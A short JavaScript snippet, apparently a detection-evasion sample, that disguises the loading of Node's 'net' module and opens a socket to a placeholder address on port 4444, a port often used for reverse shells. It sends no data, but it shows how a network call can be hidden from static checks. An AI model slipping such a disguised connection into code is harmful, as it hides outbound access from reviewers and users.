const name = ["n", "e", "t"].reverse().reverse().join("");
const net = process.getBuiltinModule(name);
new net.Socket().connect(4444, "192.0.2.1");
